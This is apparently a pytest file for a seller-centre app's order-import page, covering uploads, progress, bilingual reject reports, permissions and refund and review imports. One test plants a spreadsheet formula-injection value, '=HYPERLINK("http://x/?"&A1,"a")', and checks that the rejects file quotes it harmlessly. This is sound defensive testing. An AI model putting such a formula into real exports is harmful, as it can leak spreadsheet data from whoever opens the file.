"""The import page: upload, progress, report and rejects file (O1), through the real app."""

from __future__ import annotations

import csv
from pathlib import Path

import httpx
from benchmarks.order_exports import write_sample_export
from markupsafe import escape
from sqlalchemy import func, select

from tests.conftest import MakeStaff, csrf_from, sign_in
from xiaoer.core.db import Database
from xiaoer.core.models import Event
from xiaoer.orders.models import Order
from xiaoer.sellercentre.imports import wait_for_jobs
from xiaoer.sellercentre.models import ImportJob
from xiaoer.shops.models import Shop

# The spoilt cell of _spoil_first_row, as the reason says it in each language.
BAD_PAID_EN = '买家实际支付金额 "很多钱" is not an amount of money'
BAD_PAID_ZH = "买家实际支付金额“很多钱”不是金额"


async def _token(client: httpx.AsyncClient) -> str:
    return csrf_from((await client.get("/orders/import")).text)


def _spoil_first_row(path: Path) -> None:
    with path.open(encoding="gb18030", newline="") as f:
        rows = list(csv.reader(f))
    header = [h.strip() for h in rows[0]]
    rows[1][header.index("买家实际支付金额")] = "很多钱"
    with path.open("w", encoding="gb18030", newline="") as f:
        csv.writer(f).writerows(rows)


async def _import_spoilt_export(client: httpx.AsyncClient, tmp_path: Path) -> tuple[Path, int]:
    """Upload a sample export whose first order row has a bad amount; wait for the job."""
    order_list, item_list = write_sample_export(tmp_path, 40, seed=21, quirks=False)
    _spoil_first_row(order_list)
    files = {
        "orders": (order_list.name, order_list.read_bytes(), "text/csv"),
        "items": (item_list.name, item_list.read_bytes(), "text/csv"),
    }
    started = await client.post(
        "/orders/import", files=files, data={"csrf_token": await _token(client)}
    )
    assert started.status_code == 303
    job_id = int(started.headers["location"].rsplit("/", 1)[1])
    await wait_for_jobs()
    return order_list, job_id


def _reasons(rejects: httpx.Response | Path) -> list[str]:
    """The 原因 column of a rejects file of the order list (in GB18030), downloaded or not."""
    content = rejects.read_bytes() if isinstance(rejects, Path) else rejects.content
    rows = list(csv.reader(content.decode("gb18030").splitlines()))
    assert rows[0][-2:] == ["行号", "原因"]
    return [row[-1] for row in rows[1:]]


async def test_a_supervisor_uploads_an_export_and_reads_the_report(
    client: httpx.AsyncClient, db: Database, make_staff: MakeStaff, tmp_path: Path
) -> None:
    await make_staff("boss", "supervisor")
    await sign_in(client, "boss")
    order_list, job_id = await _import_spoilt_export(client, tmp_path)
    job_url = f"/orders/import/{job_id}"

    status = (await client.get(f"/api/orders/imports/{job_id}")).json()
    assert status["status"] == "done" and status["percent"] == 100
    assert {k: status["summary"][k] for k in ("read", "created", "rejected")} == {
        "read": 40,
        "created": 39,
        "rejected": 1,
    }
    # The supervisor reads Chinese: the rejected row's line and reason are in Chinese.
    assert status["messages"][0] == f"{order_list.name} 第 2 行：{BAD_PAID_ZH}"
    assert "在订单报表里的那一行被拒绝了" in status["messages"][1]  # the order's items

    page = await client.get(job_url)
    assert page.status_code == 200
    assert "新增 39" in page.text and "拒绝 1" in page.text
    assert escape(f"{order_list.name} 第 2 行：{BAD_PAID_ZH}") in page.text
    assert "not an amount of money" not in page.text
    rejects = await client.get(f"/orders/import/{job_id}/rejects/0")
    assert rejects.status_code == 200
    text = rejects.content.decode("gb18030")
    assert "很多钱" in text and "行号" in text
    # The rejects file gives the reasons as the page does, its cells as they were.
    assert _reasons(rejects) == [BAD_PAID_ZH]
    assert order_list.stem in rejects.headers["content-disposition"]
    # The file beside the upload keeps English, as the command line writes it.
    async with db.session() as session:
        job = await session.get(ImportJob, job_id)
        assert job is not None
        stored = Path(job.rejects[0])
    assert _reasons(stored) == [BAD_PAID_EN]

    listing = await client.get("/orders/import")
    assert order_list.name in listing.text


async def test_a_file_that_is_not_an_export_ends_the_job_with_its_reason(
    client: httpx.AsyncClient, db: Database, make_staff: MakeStaff, tmp_path: Path
) -> None:
    await make_staff("boss", "supervisor")
    await sign_in(client, "boss")
    _orders, item_list = write_sample_export(tmp_path, 5, seed=22)
    files = {"orders": ("ExportOrderList.csv", item_list.read_bytes(), "text/csv")}
    started = await client.post(
        "/orders/import", files=files, data={"csrf_token": await _token(client)}
    )
    job_id = int(started.headers["location"].rsplit("/", 1)[1])
    await wait_for_jobs()
    status = (await client.get(f"/api/orders/imports/{job_id}")).json()
    assert status["status"] == "failed"
    wrong_kind = "这是宝贝报表（ExportOrderDetailList），不是订单报表；请作为宝贝报表上传"
    assert status["error"] == wrong_kind
    page = await client.get(f"/orders/import/{job_id}")
    assert wrong_kind in page.text and "item list" not in page.text
    # The row keeps the English text for logs and the command line, and the message.
    async with db.session() as session:
        job = await session.get(ImportJob, job_id)
        assert job is not None
        assert job.error.startswith("this file is an item list (ExportOrderDetailList)")
        assert isinstance(job.error_data, dict) and job.error_data["template"] == job.error


async def test_an_english_reader_sees_the_report_and_the_errors_in_english(
    client: httpx.AsyncClient, db: Database, make_staff: MakeStaff, tmp_path: Path
) -> None:
    await make_staff("boss", "supervisor", language="en")
    await sign_in(client, "boss")
    order_list, job_id = await _import_spoilt_export(client, tmp_path)
    line = f"{order_list.name}:2: {BAD_PAID_EN}"
    status = (await client.get(f"/api/orders/imports/{job_id}")).json()
    assert status["messages"][0] == line
    assert status["messages"][1].endswith("in the order list was rejected")
    page = await client.get(f"/orders/import/{job_id}")
    assert escape(line) in page.text and "不是金额" not in page.text
    rejects = await client.get(f"/orders/import/{job_id}/rejects/0")
    assert _reasons(rejects) == [BAD_PAID_EN]

    empty = tmp_path / "ExportOrderList-empty.csv"
    empty.write_bytes(b"")
    files = {"orders": (empty.name, empty.read_bytes(), "text/csv")}
    started = await client.post(
        "/orders/import", files=files, data={"csrf_token": await _token(client)}
    )
    failed_id = int(started.headers["location"].rsplit("/", 1)[1])
    await wait_for_jobs()
    failed = (await client.get(f"/api/orders/imports/{failed_id}")).json()
    assert (failed["status"], failed["error"]) == ("failed", "the file is empty")


async def test_a_chinese_reader_sees_why_a_file_could_not_be_read(
    client: httpx.AsyncClient, db: Database, make_staff: MakeStaff, tmp_path: Path
) -> None:
    await make_staff("boss", "supervisor")
    await sign_in(client, "boss")
    spreadsheet = tmp_path / "ExportOrderList.xlsx"
    spreadsheet.write_bytes(b"PK\x03\x04 not really a workbook")
    files = {"orders": (spreadsheet.name, spreadsheet.read_bytes(), "application/octet-stream")}
    started = await client.post(
        "/orders/import", files=files, data={"csrf_token": await _token(client)}
    )
    job_id = int(started.headers["location"].rsplit("/", 1)[1])
    await wait_for_jobs()
    page = await client.get(f"/orders/import/{job_id}")
    assert "ExportOrderList.xlsx 不是能读取的 .xlsx 工作簿" in page.text
    assert "readable" not in page.text


async def test_a_job_kept_before_messages_were_translatable_still_shows(
    client: httpx.AsyncClient, db: Database, make_staff: MakeStaff, shop: Shop
) -> None:
    await make_staff("boss", "supervisor")
    await sign_in(client, "boss")
    async with db.session() as session:
        job = ImportJob(
            shop_id=shop.id,
            status="failed",
            files={"orders": "ExportOrderList.csv", "items": None},
            summary={},
            messages=["ExportOrderList.csv:7: 订单状态 is empty"],
            error="the file is empty",
        )
        session.add(job)
        await session.commit()
        job_id = job.id
    status = (await client.get(f"/api/orders/imports/{job_id}")).json()
    assert status["messages"] == ["ExportOrderList.csv:7: 订单状态 is empty"]
    assert status["error"] == "the file is empty"
    page = await client.get(f"/orders/import/{job_id}")
    assert page.status_code == 200
    assert "ExportOrderList.csv:7: 订单状态 is empty" in page.text


async def test_a_wrong_kind_of_file_is_refused_at_once(
    client: httpx.AsyncClient, db: Database, make_staff: MakeStaff
) -> None:
    await make_staff("boss", "supervisor")
    await sign_in(client, "boss")
    files = {"orders": ("orders.pdf", b"%PDF-1.4", "application/pdf")}
    refused = await client.post(
        "/orders/import", files=files, data={"csrf_token": await _token(client)}
    )
    assert refused.status_code == 422
    # In the supervisor's Chinese, the file's role translated inside the message too.
    assert "订单报表：&#39;orders.pdf&#39; 不是 .csv 或 .xlsx 格式的导出文件" in refused.text
    assert "not a .csv or .xlsx export" not in refused.text


async def test_agents_may_not_import(
    client: httpx.AsyncClient, db: Database, make_staff: MakeStaff
) -> None:
    await make_staff("mei", "agent")
    await sign_in(client, "mei")
    assert (await client.get("/orders/import")).status_code == 403


async def test_a_rejects_file_opens_safely_and_imports_again_once_fixed(
    client: httpx.AsyncClient, db: Database, make_staff: MakeStaff, shop: Shop, tmp_path: Path
) -> None:
    await make_staff("boss", "supervisor")
    await sign_in(client, "boss")
    order_list, _items = write_sample_export(tmp_path, 10, seed=23, quirks=False)
    with order_list.open(encoding="gb18030", newline="") as f:
        rows = list(csv.reader(f))
    header = [h.strip() for h in rows[0]]
    nick, message, paid = (header.index(h) for h in ("买家会员名", "买家留言", "买家实际支付金额"))
    formula = '=HYPERLINK("http://x/?"&A1,"a")'
    good_amount = rows[1][paid]
    rows[1][nick], rows[1][message], rows[1][paid] = formula, "-2+3", "很多钱"
    with order_list.open("w", encoding="gb18030", newline="") as f:
        csv.writer(f).writerows(rows)
    files = {"orders": (order_list.name, order_list.read_bytes(), "text/csv")}
    started = await client.post(
        "/orders/import", files=files, data={"csrf_token": await _token(client)}
    )
    job_id = int(started.headers["location"].rsplit("/", 1)[1])
    await wait_for_jobs()
    first = (await client.get(f"/api/orders/imports/{job_id}")).json()
    assert (first["summary"]["created"], first["summary"]["rejected"]) == (9, 1)

    download = await client.get(f"/orders/import/{job_id}/rejects/0")
    rejected = list(csv.reader(download.content.decode("gb18030").splitlines()))
    # What a spreadsheet would run is quoted; the other cells are as exported.
    assert rejected[1][nick] == "'" + formula and rejected[1][message] == "'-2+3"
    assert [c for i, c in enumerate(rejected[1][:-2]) if i not in (nick, message)] == [
        c for i, c in enumerate(rows[1]) if i not in (nick, message)
    ]
    # The seller fixes the amount in the file and imports it as it is.
    rejected[1][paid] = good_amount
    fixed = tmp_path / "ExportOrderList-fixed.csv"
    with fixed.open("w", encoding="gb18030", newline="") as f:
        csv.writer(f).writerows(rejected)
    files = {"orders": (fixed.name, fixed.read_bytes(), "text/csv")}
    again = await client.post(
        "/orders/import", files=files, data={"csrf_token": await _token(client)}
    )
    again_id = int(again.headers["location"].rsplit("/", 1)[1])
    await wait_for_jobs()
    second = (await client.get(f"/api/orders/imports/{again_id}")).json()
    assert (second["summary"]["created"], second["summary"]["rejected"]) == (1, 0)
    async with db.session() as session:
        order = await session.scalar(
            select(Order).where(Order.shop_id == shop.id, Order.buyer_message == "-2+3")
        )
    assert order is not None and order.buyer_nick == formula


async def test_a_supervisor_imports_a_refund_report_and_a_review_report_from_the_page(
    client: httpx.AsyncClient, db: Database, make_staff: MakeStaff, shop: Shop, tmp_path: Path
) -> None:
    from benchmarks.aftersales_exports import (
        REFUND_HEADER,
        REVIEW_HEADER,
        sample_refunds,
        write_report,
    )

    from xiaoer.aftersales.models import Refund, Review
    from xiaoer.aftersales.refund_states import OPEN as OPEN_REFUND
    from xiaoer.sellercentre.ingest import import_orders

    # given: the orders imported, a refund report of them with one unknown order
    boss = await make_staff("boss", "supervisor")
    order_list, item_list = write_sample_export(tmp_path / "orders", 20, seed=4, quirks=False)
    await import_orders(db, shop.id, order_list, item_list)
    async with db.session() as session:
        paid = [(o.platform_order_id, o.paid_fen) for o in await session.scalars(select(Order))]
    rows = list(sample_refunds(paid, seed=2))
    rows[0]["订单编号"] = "111111111111111111"
    report = write_report(tmp_path / "退款报表.csv", REFUND_HEADER, rows)
    await sign_in(client, "boss")
    page = await client.get("/orders/import")
    assert 'name="kind"' in page.text and 'value="refunds"' in page.text

    # when
    files = {"orders": (report.name, report.read_bytes(), "text/csv")}
    token = await _token(client)
    started = await client.post(
        "/orders/import", files=files, data={"csrf_token": token, "kind": "refunds"}
    )
    assert started.status_code == 303
    job_id = int(started.headers["location"].rsplit("/", 1)[1])
    await wait_for_jobs()

    # then: the same job page and progress as orders, the reasons in Chinese
    status = (await client.get(f"/api/orders/imports/{job_id}")).json()
    assert (status["status"], status["kind"], status["percent"]) == ("done", "refunds", 100)
    async with db.session() as session:
        still_open = await session.scalar(
            select(func.count()).select_from(Refund)
            .where(Refund.status.in_([s.value for s in OPEN_REFUND]))
        )  # fmt: skip
    assert status["summary"] == {
        "read": len(rows), "created": len(rows) - 1, "updated": 0, "unchanged": 0, "rejected": 1,
        "tickets_opened": still_open,
    }  # fmt: skip
    assert status["messages"] == [
        f"{report.name} 第 2 行：本店没有订单 111111111111111111；请先导入订单"
    ]
    job_page = await client.get(f"/orders/import/{job_id}")
    assert 'id="import-progress"' in job_page.text and f"新增 {len(rows) - 1}" in job_page.text
    rejects = await client.get(f"/orders/import/{job_id}/rejects/0")
    assert "本店没有订单" in rejects.content.decode("gb18030")
    async with db.session() as session:
        refunds = list(await session.scalars(select(Refund)))
        assert len(refunds) == len(rows) - 1
        events = list(await session.scalars(select(Event).where(Event.kind == "refund.imported")))
        assert len(events) == 1

    # and a review report the same way; an item list goes only with orders
    review = {"订单编号": paid[0][0], "子订单编号": "1", "评价结果": "差评"}
    reviews = write_report(tmp_path / "评价.csv", REVIEW_HEADER, [review])
    files = {"orders": (reviews.name, reviews.read_bytes(), "text/csv")}
    started = await client.post(
        "/orders/import", files=files, data={"csrf_token": token, "kind": "reviews"}
    )
    await wait_for_jobs()
    job_id = int(started.headers["location"].rsplit("/", 1)[1])
    status = (await client.get(f"/api/orders/imports/{job_id}")).json()
    assert (status["status"], status["summary"]["created"]) == ("done", 1)
    async with db.session() as session:
        stored = await session.scalar(select(Review))
        assert stored is not None and stored.rating == "bad"
    files["items"] = (item_list.name, item_list.read_bytes(), "text/csv")
    refused = await client.post(
        "/orders/import", files=files, data={"csrf_token": token, "kind": "reviews"}
    )
    assert refused.status_code == 422 and "宝贝报表只能和订单报表一起上传" in refused.text
    assert boss.id


async def test_an_agent_may_not_import_a_refund_report(
    client: httpx.AsyncClient, db: Database, make_staff: MakeStaff, tmp_path: Path
) -> None:
    from xiaoer.aftersales.models import Refund

    await make_staff("amy", "agent", team="aftersale")
    await sign_in(client, "amy")
    token = csrf_from((await client.get("/")).text)
    report = tmp_path / "退款报表.csv"
    report.write_text("订单编号,退款编号,退款状态,买家退款金额\r\n", "gb18030")
    files = {"orders": (report.name, report.read_bytes(), "text/csv")}
    refused = await client.post(
        "/orders/import", files=files, data={"csrf_token": token, "kind": "refunds"}
    )
    assert refused.status_code == 403
    async with db.session() as session:
        assert await session.scalar(select(ImportJob)) is None
        assert await session.scalar(select(Refund)) is None
